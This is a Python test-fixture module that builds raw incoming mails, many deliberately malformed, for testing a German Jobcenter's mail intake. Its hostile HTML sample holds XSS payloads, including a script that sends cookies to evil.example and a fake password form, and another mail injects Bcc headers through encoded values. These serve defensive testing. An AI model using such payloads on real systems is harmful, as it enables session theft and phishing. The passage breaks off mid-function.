"""A corpus of raw incoming mails, realistic and hostile, built in code.

`corpus()` returns {name: raw bytes}. The mails are what Jobcenters receive: German plain
text, HTML from webmailers (here full of script, remote images and tricks), Outlook's
winmail.dat and `.msg`, forwards, replies to krm's letters, broken encodings, and bytes that
are no mail at all. The 30 MB attachment is built only with `corpus(big=True)` or by
`big_attachment_mail()`, so ordinary tests stay fast.

Outlook `.msg` files are built with extract_msg's own `OleWriter` (the OLE compound file)
and the MAPI property streams written here by hand (MS-OXMSG: `__properties_version1.0`,
`__substg1.0_XXXXYYYY` streams, recipient and attachment storages, an embedded message in
`__substg1.0_3701000D`). winmail.dat is written by hand too (MS-OXTNEF: signature, key,
then level/attribute/length/data/checksum records), small but read by tnefparse like
Outlook's.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import quopri
import random
import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field

from extract_msg.ole_writer import OleWriter

CRLF = b"\r\n"
KRM_MESSAGE_ID = "krm-7f3a9c41e2@krm.example"
AKTENZEICHEN = "II-6001-2026-00042"


def _crlf(text: str, encoding: str = "utf-8") -> bytes:
    """Text with "\n" line ends as bytes with CRLF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(encoding)


def _b64_lines(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", CRLF)


def tiny_png() -> bytes:
    """A valid 1×1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x80\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


TINY_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


# --- Outlook .msg ----------------------------------------------------------------------


@dataclass
class MsgSpec:
    subject: str
    sender_name: str
    sender_address: str
    body: str
    message_id: str
    date: dt.datetime
    html: bytes | None = None
    recipients: list[tuple[str, str, int]] = field(default_factory=list)  # 1 To, 2 Cc, 3 Bcc
    attachments: list[tuple[str, str, bytes]] = field(default_factory=list)
    embedded: list[MsgSpec] = field(default_factory=list)


def _filetime(moment: dt.datetime) -> int:
    return int((moment - dt.datetime(1601, 1, 1, tzinfo=dt.UTC)).total_seconds() * 10**7)


class _MsgBuilder:
    """Writes MAPI properties of one message (or embedded message) into an OleWriter."""

    def __init__(self, writer: OleWriter) -> None:
        self.writer = writer

    def string(self, base: str, prop: int, value: str) -> bytes:
        data = value.encode("utf-16-le")
        self.writer.addEntry(f"{base}__substg1.0_{prop:04X}001F", data)
        return struct.pack("<IIII", (prop << 16) | 0x001F, 6, len(data) + 2, 0)

    def binary(self, base: str, prop: int, value: bytes) -> bytes:
        self.writer.addEntry(f"{base}__substg1.0_{prop:04X}0102", value)
        return struct.pack("<IIII", (prop << 16) | 0x0102, 6, len(value), 0)

    @staticmethod
    def integer(prop: int, value: int) -> bytes:
        return struct.pack("<IIII", (prop << 16) | 0x0003, 6, value, 0)

    def message(self, base: str, spec: MsgSpec, *, embedded: bool) -> None:
        props = b""
        for prop, value in (
            (0x001A, "IPM.Note"),
            (0x0037, spec.subject),
            (0x0C1A, spec.sender_name),
            (0x0C1E, "SMTP"),
            (0x0C1F, spec.sender_address),
            (0x5D01, spec.sender_address),
            (0x1000, spec.body),
            (0x1035, spec.message_id),
        ):
            props += self.string(base, prop, value)
        props += struct.pack("<II", 0x00390040, 6) + struct.pack("<Q", _filetime(spec.date))
        props += self.integer(0x0E07, 1)  # MSGFLAG_READ, sent
        if spec.html is not None:
            props += self.binary(base, 0x1013, spec.html)
            props += self.integer(0x3FDE, 65001)  # PR_INTERNET_CPID: UTF-8
        for index, (name, address, kind) in enumerate(spec.recipients):
            storage = f"{base}__recip_version1.0_#{index:08X}"
            self.writer.addEntry(storage, storage=True)
            recipient = b"\0" * 8
            recipient += self.string(storage + "/", 0x3001, name)
            recipient += self.string(storage + "/", 0x3003, address)
            recipient += self.string(storage + "/", 0x39FE, address)
            recipient += self.integer(0x0C15, kind)
            self.writer.addEntry(f"{storage}/__properties_version1.0", recipient)
        count = 0
        for name, mime, data in spec.attachments:
            storage = f"{base}__attach_version1.0_#{count:08X}"
            self.writer.addEntry(storage, storage=True)
            attachment = b"\0" * 8 + self.integer(0x3705, 1)  # ATTACH_BY_VALUE
            attachment += self.binary(storage + "/", 0x3701, data)
            attachment += self.string(storage + "/", 0x3707, name)
            attachment += self.string(storage + "/", 0x370E, mime)
            self.writer.addEntry(f"{storage}/__properties_version1.0", attachment)
            count += 1
        for inner in spec.embedded:
            storage = f"{base}__attach_version1.0_#{count:08X}"
            self.writer.addEntry(storage, storage=True)
            attachment = b"\0" * 8 + self.integer(0x3705, 5)  # ATTACH_EMBEDDED_MSG
            attachment += struct.pack("<IIII", 0x3701000D, 6, 0xFFFFFFFF, 0)
            attachment += self.string(storage + "/", 0x3001, inner.subject)
            self.writer.addEntry(f"{storage}/__substg1.0_3701000D", storage=True)
            self.message(f"{storage}/__substg1.0_3701000D/", inner, embedded=True)
            self.writer.addEntry(f"{storage}/__properties_version1.0", attachment)
            count += 1
        recipients = len(spec.recipients)
        header = struct.pack("<8x4I", recipients, count, recipients, count)
        if not embedded:
            header += b"\0" * 8
        self.writer.addEntry(f"{base}__properties_version1.0", header + props)


def msg_bytes(spec: MsgSpec) -> bytes:
    """An Outlook .msg file (OLE compound file) for the spec."""
    writer = OleWriter()
    _MsgBuilder(writer).message("", spec, embedded=False)
    writer.addEntry("__nameid_version1.0", storage=True)
    for stream in ("00020102", "00030102", "00040102"):
        writer.addEntry(f"__nameid_version1.0/__substg1.0_{stream}", b"")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def customer_msg_spec() -> MsgSpec:
    return MsgSpec(
        subject="Beschwerde über die Terminvergabe",
        sender_name="Maria Beispiel",
        sender_address="maria@example.net",
        body=(
            "Sehr geehrte Damen und Herren,\r\n\r\nseit sechs Wochen bekomme ich keinen "
            "Termin.\r\n\r\nMit freundlichen Grüßen\r\nMaria Beispiel"
        ),
        message_id="<CAF-outlook-1@example.net>",
        date=dt.datetime(2026, 3, 1, 8, 30, tzinfo=dt.UTC),
        recipients=[("Jobcenter Pankow", "krm@jobcenter-pankow.example", 1)],
        attachments=[("Foto Wartebereich.png", "image/png", tiny_png())],
    )


def outlook_msg() -> bytes:
    """A forward saved from Outlook: own body (with HTML), a file, the customer's mail."""
    return msg_bytes(
        MsgSpec(
            subject="WG: Beschwerde über die Terminvergabe",
            sender_name="Team 711",
            sender_address="Team711@Jobcenter-Pankow.example",
            body="Zur Bearbeitung.\r\nTeam 711",
            html=(
                b"<html><body><p>Zur Bearbeitung.</p><script>alert(1)</script>"
                b'<img src="http://tracker.example/p.gif"><p>Team 711 \xe2\x80\x93 '
                b"Gr\xc3\xbc\xc3\x9fe</p></body></html>"
            ),
            message_id="<AM0PR-711@jobcenter-pankow.example>",
            date=dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC),
            recipients=[
                ("KRM", "krm@jobcenter-pankow.example", 1),
                ("Teamleitung", "tl711@jobcenter-pankow.example", 2),
                ("Archiv", "archiv@jobcenter-pankow.example", 3),
            ],
            attachments=[("Stellungnahme.txt", "text/plain", "Stellungnahme: …".encode())],
            embedded=[customer_msg_spec()],
        )
    )


# --- winmail.dat (TNEF) ------------------------------------------------------------------


def _tnef_record(level: int, attribute: int, kind: int, data: bytes) -> bytes:
    checksum = sum(data) & 0xFFFF
    return (
        struct.pack("<BHHI", level, attribute, kind, len(data)) + data + struct.pack("<H", checksum)
    )


def winmail_dat(body: str, attachments: Iterable[tuple[str, bytes]]) -> bytes:
    """A TNEF stream: version, OEM code page 1252, subject, body, attachments."""
    out = struct.pack("<IH", 0x223E9F78, 0x4711)
    out += _tnef_record(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += _tnef_record(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += _tnef_record(1, 0x8004, 0x0001, "Widerspruch\0".encode("cp1252"))  # attSubject
    out += _tnef_record(1, 0x800C, 0x0002, body.encode("cp1252"))  # attBody
    for name, data in attachments:
        out += _tnef_record(2, 0x9002, 0x0006, b"\x01\x00" + b"\xff" * 4 + b"\0" * 8)
        out += _tnef_record(2, 0x8010, 0x0001, name.encode("cp1252") + b"\0")  # attAttachTitle
        out += _tnef_record(2, 0x800F, 0x0006, data)  # attAttachData
    return out


# --- the mails --------------------------------------------------------------------------


def plain_utf8() -> bytes:
    return _crlf(
        "From: =?utf-8?q?J=C3=BCrgen_M=C3=BCller?= <Juergen.Mueller@Example.DE>\n"
        "To: Jobcenter Pankow <krm@jobcenter-pankow.example>\n"
        "Cc: Beratungsstelle <beratung@example.org>\n"
        "Subject: Beschwerde =?utf-8?q?=C3=BCber?= die lange Wartezeit\n"
        "Date: Mon, 02 Mar 2026 09:15:00 +0100\n"
        "Message-ID: <20260302091500.4711@example.de>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n"
        "\n"
        "Sehr geehrte Damen und Herren,\n"
        "\n"
        "seit drei Wochen warte ich auf eine Antwort zu meinem Weiterbewilligungsantrag.\n"
        "Die Größe des Problems ist für mich erheblich: ohne Geld kann ich die Miete\n"
        "nicht zahlen.\n"
        "\n"
        "Mit freundlichen Grüßen\n"
        "Jürgen Müller\n"
    )


HOSTILE_HTML = """<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/track.css">
<style>body { background: url(http://evil.example/bg.png); }</style>
<script>document.location='http://evil.example/?'+document.cookie</script>
<title>Beschwerde</title>
</head>
<body onload="alert('load')">
<p style="color:red;background-image:url(http://evil.example/p.png)">Sehr geehrte Frau Schulz,</p>
<p onclick="alert('click')">ich beschwere mich über die <b>Behandlung</b> am Empfang.</p>
<img src="http://tracker.example/open.gif?id=4711" width="1" height="1">
<img src=x onerror="alert('img')">
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/login"><input name="pw" type="password">
<button>Anmelden</button></form>
<a href="javascript:alert('js')">Klick mich</a>
<a href="JaVaScRiPt:alert(2)">Auch hier</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Daten</a>
<a href="https://www.berlin.de/jobcenter" onmouseover="alert('hover')">Jobcenter</a>
<svg onload="alert('svg')"><circle r="5"/></svg>
<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y">
<!-- ein Kommentar mit <script>alert(3)</script> -->
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Erika Mustermann</p>
</body></html>
"""


def html_hostile() -> bytes:
    html_qp = quopri.encodestring(_crlf(HOSTILE_HTML))
    return (
        _crlf(
            "From: Erika Mustermann <erika@example.com>\n"
            "To: krm@jobcenter-pankow.example\n"
            "Subject: Beschwerde\n"
            "Date: Tue, 03 Mar 2026 10:00:00 +0100\n"
            "Message-ID: <hostile-1@example.com>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/alternative; boundary="alt-1"\n'
            "\n"
            "--alt-1\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
            "Sehr geehrte Frau Schulz,\n"
            "ich beschwere mich über die Behandlung am Empfang.\n"
            "Mit freundlichen Grüßen\n"
            "Erika Mustermann\n"
            "\n"
            "--alt-1\n"
            "Content-Type: text/html; charset=utf-8\n"
            "Content-Transfer-Encoding: quoted-printable\n"
            "\n"
        )
        + html_qp
        + _crlf("\n--alt-1--\n")
    )


def html_only() -> bytes:
    html = (
        "<html><head><title>Titel</title><style>p {color: red}</style></head><body>"
        "<p>Sehr geehrte Frau Schulz,</p><p>ich m&ouml;chte mich beschweren &amp; bitte um"
        "   R&uuml;ckruf.</p><ul><li>Termin am 2.&nbsp;März</li><li>Termin am 9. März</li></ul>"
        "<script>var geheim = 1;</script><div>Grüße<br>Erika</div></body></html>"
    )
    return _crlf(
        "From: erika@example.com\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: Nur HTML\n"
        "Date: Tue, 03 Mar 2026 10:00:00 +0100\n"
        "Message-ID: <html-only@example.com>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/html; charset=iso-8859-1\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n"
    ) + quopri.encodestring(html.encode("iso-8859-1").replace(b"\n", b"\r\n"))


def html_meta_charset() -> bytes:
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">'
        "</head><body><p>\x84Zitat\x93 f\xfcr 50 \x80</p></body></html>"
    )
    return _crlf(
        "From: erika@example.com\n"
        "Subject: Zeichensatz im HTML\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/html\n"
        "\n"
    ) + html.encode("latin-1")


BROKEN_B64_TEXT = "Guten Tag, anbei mein Bescheid. Grüße aus Pankow!"


def broken_base64() -> bytes:
    text = base64.b64encode(BROKEN_B64_TEXT.encode()).decode().rstrip("=")
    text = text[:10] + "!*#" + text[10:30] + "\u00e4" + text[30:]  # stray characters
    pdf = base64.b64encode(TINY_PDF).decode().rstrip("=")
    pdf = "\r\n".join(pdf[i : i + 40] for i in range(0, len(pdf), 40))
    return (
        _crlf(
            "From: Paul Kaputt <paul@example.org>\n"
            "To: krm@jobcenter-pankow.example\n"
            "Subject: Kaputtes Base64\n"
            "Date: Wed, 04 Mar 2026 11:00:00 +0100\n"
            "Message-ID: <b64@example.org>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="b64-b"\n'
            "\n"
            "--b64-b\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + text.encode("utf-8")
        + _crlf(
            "\n--b64-b\n"
            "Content-Type: application/pdf\n"
            'Content-Disposition: attachment; filename="Bescheid.pdf"\n'
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + pdf.encode()
        + _crlf("\n--b64-b--\n")
    )


def broken_qp() -> bytes:
    return _crlf(
        "From: paul@example.org\n"
        "Subject: Kaputtes Quoted-Printable\n"
        "Message-ID: <qp@example.org>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n"
        "\n"
        "Gr=C3=BC=C3=9Fe und ein kleines =c3=a4 in Kleinbuchstaben.\n"
        "Rabatt: 50=% und =ZZ ist kein Escape.\n"
        "Eine sehr lange Zeile, die wei=\n"
        "chen Umbruch hat, und eine mit Polster= \t\n"
        "ung am Ende.=\n"
    )


def nested() -> bytes:
    png = _b64_lines(tiny_png()).decode()
    pdf = _b64_lines(TINY_PDF).decode()
    return _crlf(
        "From: Erika Mustermann <erika@example.com>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: Verschachtelt\n"
        "Date: Thu, 05 Mar 2026 12:00:00 +0100\n"
        "Message-ID: <nested@example.com>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="mixed"\n'
        "\n"
        "This is a multi-part message in MIME format.\n"
        "--mixed\n"
        'Content-Type: multipart/alternative; boundary="alt"\n'
        "\n"
        "--alt\n"
        "Content-Type: text/plain; charset=utf-8; format=flowed\n"
        "\n"
        "Guten Tag,\n"
        "\n"
        "hier der Text mit einem weichen \n"
        "Umbruch.\n"
        "\n"
        "--alt\n"
        'Content-Type: multipart/related; boundary="rel"\n'
        "\n"
        "--rel\n"
        "Content-Type: text/html; charset=utf-8\n"
        "\n"
        '<p>Guten Tag,</p><p>hier der Text.<img src="cid:logo@example.com"></p>\n'
        "--rel\n"
        "Content-Type: image/png\n"
        "Content-ID: <logo@example.com>\n"
        'Content-Disposition: inline; filename="logo.png"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + png + "--rel--\n"
        "\n"
        "--alt--\n"
        "\n"
        "--mixed\n"
        'Content-Type: application/pdf; name="Bescheid vom 01.02.2026.pdf"\n'
        'Content-Disposition: attachment; filename="Bescheid vom 01.02.2026.pdf"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + pdf + "--mixed--\n"
    )


def header_8bit_utf8() -> bytes:
    return _crlf(
        "From: Jürgen Müller <juergen@example.de>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: Widerspruch gegen den Bescheid für März\n"
        "Date: Fri, 06 Mar 2026 08:00:00 +0100\n"
        "Message-ID: <8bit-utf8@example.de>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n'
        "\n"
        "--b\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Siehe Anhang.\n"
        "--b\n"
        "Content-Type: application/pdf\n"
        'Content-Disposition: attachment; filename="Übersicht März.pdf"\n'
        "\n"
        "%PDF-1.4 nur ein Stück\n"
        "--b--\n"
    )


def header_8bit_latin1() -> bytes:
    return _crlf(
        "From: Björn Schön <bjoern@example.de>\n"
        "Subject: Grüße aus Köln\n"
        "Message-ID: <8bit-latin1@example.de>\n"
        "Content-Type: text/plain; charset=iso-8859-1\n"
        "\n"
        "Schöne Grüße\n",
        "latin-1",
    )


def rfc2047_mixed() -> bytes:
    ueber = base64.b64encode("Überprüfung".encode()).decode()
    # "Bescheids – " in UTF-8, split inside the en dash across two B words.
    dash = "Bescheids – ".encode()
    first, second = dash[:11], dash[11:]
    return _crlf(
        f"Subject: =?UTF-8?B?{ueber}?= des =?utf-8?b?{base64.b64encode(first).decode()}?=\n"
        f" =?utf-8?b?{base64.b64encode(second).decode()}?= =?ISO-8859-1?Q?Gr=FC=DFe_aus_?=\n"
        " =?iso-8859-1?q?K=F6ln?= und =?x-unknown?q?Gr=FC=DFe?=\n"
        "From: =?iso-8859-1?q?Sch=F6n=2C_Bj=F6rn?= <Bjoern.Schoen@Example.ORG>\n"
        "To: =?utf-8?q?a=2C_b_=3Cevil=40example=2Ecom=3E?= <ok@example.com>,\n"
        " =?utf-8?B?TcO8bGxlciwgSGFucw==?= <hans@example.com>\n"
        "Date: Sat, 07 Mar 2026 07:07:07 +0000\n"
        "Message-ID: <2047@example.org>\n"
        "Content-Type: text/plain; charset=us-ascii\n"
        "\n"
        "Text.\n"
    )


def ascii_declared_cp1252() -> bytes:
    return (
        _crlf(
            "From: Hans Alt <hans@example.net>\n"
            "Subject: Zeichensatz falsch\n"
            "Message-ID: <ascii-cp1252@example.net>\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=us-ascii\n"
            "Content-Transfer-Encoding: 8bit\n"
            "\n"
        )
        + b"Ich habe \x84Einspruch\x93 eingelegt und 50 \x80 bezahlt.\r\nGr\xfc\xdfe\r\n"
    )


def latin1_declared_cp1252() -> bytes:
    return (
        _crlf(
            "From: Hans Alt <hans@example.net>\n"
            "Subject: Euro in Latin-1\n"
            "Message-ID: <latin1-cp1252@example.net>\n"
            "Content-Type: text/plain; charset=iso-8859-1\n"
            "\n"
        )
        + b"Die Nachzahlung betr\xe4gt 120 \x80 \x96 sagt der \x84Bescheid\x93.\r\n"
    )


def utf8_invalid() -> bytes:
    return (
        _crlf(
            "From: Hans Alt <hans@example.net>\n"
            "Subject: UTF-8 mit Fehlern\n"
            "Message-ID: <utf8-invalid@example.net>\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
        )
        + "Grüße aus Köln, ich möchte mich beschweren. ".encode()
        + b"Hier fehlt etwas: \xff\xfe und weiter.\r\n"
    )


def unknown_charset() -> bytes:
    return _crlf(
        "From: Hans Alt <hans@example.net>\n"
        "Subject: Unbekannter Zeichensatz\n"
        "Message-ID: <x-unknown@example.net>\n"
        'Content-Type: text/plain; charset="x-unknown"\n'
        "\n"
        "Größe: unbekannt.\n"
    )


def big_attachment_mail(size_mb: int = 30) -> bytes:
    """A mail with a size_mb MiB attachment (base64), built quickly."""
    return (
        _crlf(
            "From: Scanner <scanner@example.org>\n"
            "To: krm@jobcenter-pankow.example\n"
            "Subject: Großer Scan\n"
            "Message-ID: <big@example.org>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="big"\n'
            "\n"
            "--big\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
            "Anbei der Scan.\n"
            "--big\n"
            "Content-Type: application/pdf\n"
            'Content-Disposition: attachment; filename="scan.pdf"\n'
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + _b64_lines(big_attachment_content(size_mb))
        + _crlf("--big--\n")
    )


def big_attachment_content(size_mb: int = 30) -> bytes:
    size = size_mb * 1024 * 1024
    block = bytes(range(256)) * 4096  # 1 MiB
    return (b"%PDF-1.4\n" + block * (size // len(block) + 1))[:size]


def customer_mail() -> bytes:
    """The customer's original, as forwarded inside other mails."""
    return _crlf(
        "From: Maria Beispiel <maria@example.net>\n"
        "To: team711@jobcenter-pankow.example\n"
        "Subject: Beschwerde =?utf-8?q?=C3=BCber?= die Sachbearbeitung\n"
        "Date: Sun, 01 Mar 2026 20:00:00 +0100\n"
        "Message-ID: <orig-maria@example.net>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="inner"\n'
        "\n"
        "--inner\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Ich beschwere mich über die Sachbearbeitung.\n"
        "Maria Beispiel\n"
        "--inner\n"
        "Content-Type: text/plain; charset=utf-8\n"
        'Content-Disposition: attachment; filename="Notizen.txt"\n'
        "\n"
        "Notizen zum Termin.\n"
        "--inner--\n"
    )


def forwarded_rfc822() -> bytes:
    return (
        _crlf(
            "From: Team 711 <team711@jobcenter-pankow.example>\n"
            "To: krm@jobcenter-pankow.example\n"
            "Subject: WG: Beschwerde =?utf-8?q?=C3=BCber?= die Sachbearbeitung\n"
            "Date: Mon, 02 Mar 2026 08:00:00 +0100\n"
            "Message-ID: <fwd-711@jobcenter-pankow.example>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="outer"\n'
            "\n"
            "--outer\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
            "Zur Bearbeitung, siehe Anhang.\n"
            "--outer\n"
            "Content-Type: message/rfc822\n"
            'Content-Disposition: attachment; filename="Beschwerde.eml"\n'
            "\n"
        )
        + customer_mail()
        + _crlf("\n--outer--\n")
    )


def forwarded_rfc822_base64() -> bytes:
    """message/rfc822 sent base64-encoded (not allowed, but some mailers do it)."""
    return (
        _crlf(
            "From: Team 711 <team711@jobcenter-pankow.example>\n"
            "Subject: WG: Beschwerde\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="outer"\n'
            "\n"
            "--outer\n"
            "Content-Type: text/plain\n"
            "\n"
            "s. Anhang\n"
            "--outer\n"
            "Content-Type: message/rfc822\n"
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + _b64_lines(customer_mail())
        + _crlf("--outer--\n")
    )


def forwarded_msg() -> bytes:
    attached = _b64_lines(msg_bytes(customer_msg_spec())).decode()
    return _crlf(
        "From: Team 711 <team711@jobcenter-pankow.example>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: WG: Beschwerde =?utf-8?q?=C3=BCber?= die Terminvergabe\n"
        "Date: Mon, 02 Mar 2026 08:10:00 +0100\n"
        "Message-ID: <fwd-msg-711@jobcenter-pankow.example>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="outer"\n'
        "\n"
        "--outer\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Die Beschwerde von Frau Beispiel als Outlook-Nachricht.\n"
        "--outer\n"
        'Content-Type: application/vnd.ms-outlook; name="Beschwerde Beispiel.msg"\n'
        'Content-Disposition: attachment; filename="Beschwerde Beispiel.msg"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + attached + "--outer--\n"
    )


TNEF_BODY = "Sehr geehrte Damen und Herren, anbei mein Widerspruch. Grüße, Hans Alt"


def tnef() -> bytes:
    winmail = winmail_dat(
        TNEF_BODY,
        [("Widerspruch.txt", b"Ich widerspreche."), ("\xdcbersicht.pdf", TINY_PDF)],
    )
    return (
        _crlf(
            "From: Hans Alt <hans.alt@example.net>\n"
            "To: krm@jobcenter-pankow.example\n"
            "Subject: Widerspruch\n"
            "Date: Mon, 09 Mar 2026 09:00:00 +0100\n"
            "Message-ID: <tnef@example.net>\n"
            "MIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="tnef"\n'
            "\n"
            "--tnef\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
            "Bitte beachten Sie den Anhang.\n"
            "--tnef\n"
            'Content-Type: application/ms-tnef; name="winmail.dat"\n'
            'Content-Disposition: attachment; filename="winmail.dat"\n'
            "Content-Transfer-Encoding: base64\n"
            "\n"
        )
        + _b64_lines(winmail)
        + _crlf("--tnef--\n")
    )


def tnef_only() -> bytes:
    """Outlook "rich text" to the internet: the whole mail is a winmail.dat."""
    return _crlf(
        "From: Hans Alt <hans.alt@example.net>\n"
        "Subject: Nur winmail.dat\n"
        "Message-ID: <tnef-only@example.net>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: application/ms-tnef\n"
        "Content-Transfer-Encoding: base64\n"
        "\n"
    ) + _b64_lines(winmail_dat(TNEF_BODY, [("Antrag.txt", b"Antrag")]))


def tnef_broken() -> bytes:
    # An attachment record before any attachment was opened: tnefparse gives up.
    winmail = struct.pack("<IH", 0x223E9F78, 1) + _tnef_record(2, 0x800F, 0x0006, b"Daten")
    return _crlf(
        "From: Hans Alt <hans.alt@example.net>\n"
        "Subject: Kaputte winmail.dat\n"
        "Message-ID: <tnef-broken@example.net>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="t"\n'
        "\n"
        "--t\n"
        "Content-Type: text/plain\n"
        "\n"
        "Anbei.\n"
        "--t\n"
        'Content-Type: application/ms-tnef; name="winmail.dat"\n'
        "Content-Transfer-Encoding: base64\n"
        "\n" + base64.b64encode(winmail).decode() + "\n--t--\n"
    )


def reply() -> bytes:
    return _crlf(
        "From: Maria Beispiel <maria@example.net>\n"
        "To: Jobcenter Pankow <krm@jobcenter-pankow.example>\n"
        f"Subject: AW: Ihre Beschwerde [{AKTENZEICHEN}]\n"
        "Date: Tue, 10 Mar 2026 18:30:00 +0100\n"
        "Message-ID: <reply-maria@example.net>\n"
        f"In-Reply-To: <{KRM_MESSAGE_ID}>\n"
        f"References: <first@example.net>\n <{KRM_MESSAGE_ID}> <first@example.net>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Vielen Dank, aber das Problem besteht weiterhin.\n"
        "\n"
        "Maria Beispiel\n"
        "\n"
        "-----Ursprüngliche Nachricht-----\n"
        "Von: Jobcenter Pankow <krm@jobcenter-pankow.example>\n"
        "Gesendet: Montag, 9. März 2026 10:00\n"
        "An: Maria Beispiel <maria@example.net>\n"
        f"Betreff: Ihre Beschwerde [{AKTENZEICHEN}]\n"
        "\n"
        "Sehr geehrte Frau Beispiel, …\n"
    )


def auto_reply() -> bytes:
    return _crlf(
        "From: Maria Beispiel <maria@example.net>\n"
        f"Subject: Abwesenheitsnotiz: Ihre Beschwerde [{AKTENZEICHEN}]\n"
        "Auto-Submitted: auto-replied\n"
        f"In-Reply-To: <{KRM_MESSAGE_ID}>\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Ich bin bis zum 20. März nicht erreichbar.\n"
    )


def no_body() -> bytes:
    return _crlf(
        "From: Leer <leer@example.org>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: Ohne Text\n"
        "Date: Wed, 11 Mar 2026 12:00:00 +0100\n"
        "Message-ID: <empty-body@example.org>\n"
        "\n"
    )


def many_recipients() -> bytes:
    to = ",\n ".join(f"Person {i} <person{i}@example.org>" for i in range(150))
    cc = ",\n ".join(f"kopie{i}@example.org" for i in range(50))
    return _crlf(
        "From: Rundmail <rund@example.org>\n"
        f"To: {to}\n"
        f"Cc: {cc}\n"
        "Bcc: versteckt@example.org\n"
        "Subject: An alle\n"
        "Message-ID: <many@example.org>\n"
        "\n"
        "Hallo zusammen.\n"
    )


def headers_only() -> bytes:
    """Headers and nothing else: no blank line, no newline after the last header."""
    return _crlf(
        "From: Kopf <kopf@example.org>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: Nur Kopfzeilen\n"
        "Message-ID: <headers-only@example.org>"
    )


def header_injection() -> bytes:
    return _crlf(
        "From: =?utf-8?q?Eve=0D=0ABcc:_x@evil.example?= <eve@example.com>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: =?utf-8?q?Hallo=0D=0ABcc:_x@evil.example?=\n"
        "Message-ID: <inject@example.com>\n"
        "Content-Type: text/plain\n"
        "\n"
        "Text.\n"
    )


def garbage() -> bytes:
    return random.Random(4711).randbytes(4096)


def empty() -> bytes:
    return b""


def forwarded_by_hand() -> bytes:
    return _crlf(
        "From: Team 711 <team711@jobcenter-pankow.example>\n"
        "To: krm@jobcenter-pankow.example\n"
        "Subject: WG: Beschwerde\n"
        "Message-ID: <by-hand@jobcenter-pankow.example>\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Zur Kenntnis.\n"
        "\n"
        "-------- Weitergeleitete Nachricht --------\n"
        "Betreff: \tBeschwerde\n"
        "Datum: \tSun, 1 Mar 2026 20:00:00 +0100\n"
